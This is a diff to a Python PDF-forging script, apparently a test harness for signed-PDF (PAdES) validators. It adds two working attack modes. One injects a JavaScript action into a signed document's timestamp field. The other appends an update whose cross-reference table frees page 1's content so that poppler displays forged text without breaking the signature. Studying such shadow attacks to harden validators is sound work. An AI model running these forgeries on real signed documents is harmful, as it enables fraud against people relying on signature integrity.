@@ -17,6 +17,10 @@ update needs (PDF 32000-1, 7.5.6).
                                        PAdES allows, and with it visible text on page 1
   forge.py paint-timestamp IN OUT      the document timestamp's field of a B-LTA PDF
                                        given an appearance that paints text on the page
+  forge.py timestamp-action IN OUT     that field given a JavaScript action instead
+  forge.py free-content IN OUT         an update whose cross-reference table frees page 1's
+                                       content and resources while its body redefines them
+                                       unlisted: poppler rebuilds the table and shows them
 """
 import json
 import re
@@ -235,8 +239,46 @@ def paint_timestamp(src, dst):
     }))
 
 
+def timestamp_action(src, dst):
+    data = open(src, "rb").read()
+    field = int(re.findall(rb"(\d+) 0 obj\s*<<[^>]*/T\s*\(Document timestamp\)", data)[-1])
+    widget = show(src, field)
+    widget = widget[:-2] + b" /AA << /PO << /S /JavaScript /JS (app.alert\\(1\\)) >> >> >>"
+    open(dst, "wb").write(append(data, {field: widget}))
+
+
+def free_content(src, dst):
+    data = open(src, "rb").read()
+    objects = text_objects(src, data)
+    page = first_page(src)
+    content = int(re.search(rb"/Contents\s*(\d+) 0 R", show(src, page)).group(1))
+    resources = int(re.search(rb"/Resources (\d+) 0 R", show(src, page)).group(1))
+    stream = (b"q 1 1 1 rg 0 0 612 792 re f Q BT /FForged 16 Tf 1 0 0 rg 50 700 Td (" + TEXT +
+              b") Tj ET")
+    font = last_trailer(data)[b"Size"]
+    body = {
+        font: objects[font],
+        content: b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream",
+        resources: objects[[k for k in objects if k not in (font, page) and k != font + 1][0]],
+    }
+    trailer = last_trailer(data)
+    out = data + (b"" if data.endswith(b"\n") else b"\n")
+    for number in sorted(body):
+        out += b"%d 0 obj\n" % number + body[number] + b"\nendobj\n"
+    xref_at = len(out)
+    # The table frees the two objects the body redefines and lists nothing else.
+    out += b"xref\n0 1\n0000000000 65535 f \n"
+    for number in sorted((content, resources)):
+        out += b"%d 1\n0000000000 00001 f \n" % number
+    out += b"trailer\n<</Size %d /Root %s /Info %s /Prev %d>>\n" % (
+        trailer[b"Size"], trailer[b"Root"], trailer[b"Info"], trailer[b"startxref"])
+    out += b"startxref\n%d\n%%%%EOF\n" % xref_at
+    open(dst, "wb").write(out)
+
+
 if __name__ == "__main__":
     mode = sys.argv[1]
     {"append-text": append_text, "smuggle": smuggle, "wide-gap": wide_gap,
      "nested": nested, "dss-and-text": dss_and_text,
-     "paint-timestamp": paint_timestamp}[mode](*sys.argv[2:])
+     "paint-timestamp": paint_timestamp, "timestamp-action": timestamp_action,
+     "free-content": free_content}[mode](*sys.argv[2:])
